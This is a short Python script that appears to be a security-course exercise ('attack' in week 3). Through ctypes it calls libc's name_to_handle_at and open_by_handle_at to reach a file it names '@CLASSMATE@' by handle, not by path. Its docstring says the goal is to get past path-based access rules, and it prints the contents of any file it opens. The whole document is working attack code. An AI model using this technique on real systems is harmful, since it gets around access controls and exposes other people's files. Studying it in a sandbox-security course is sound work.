"""Opens files by their handles instead of their paths, past every rule about paths."""
# attack: week=03 exercise=pyramid
import ctypes
import os


class Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128))


libc = ctypes.CDLL(None, use_errno=True)
handle, mount = Handle(128), ctypes.c_int()
print(libc.name_to_handle_at(-100, b"@CLASSMATE@", ctypes.byref(handle), ctypes.byref(mount), 0), os.strerror(ctypes.get_errno()))
for root in ("/", "/usr", os.path.dirname(os.__file__)):
    try:
        directory = os.open(root, os.O_RDONLY)
    except OSError as error:
        directory = os.open(root, os.O_PATH)
    got = libc.open_by_handle_at(directory, ctypes.byref(handle), os.O_RDONLY)
    print(got, os.strerror(ctypes.get_errno()))
    if got >= 0:
        print(os.read(got, 10_000))
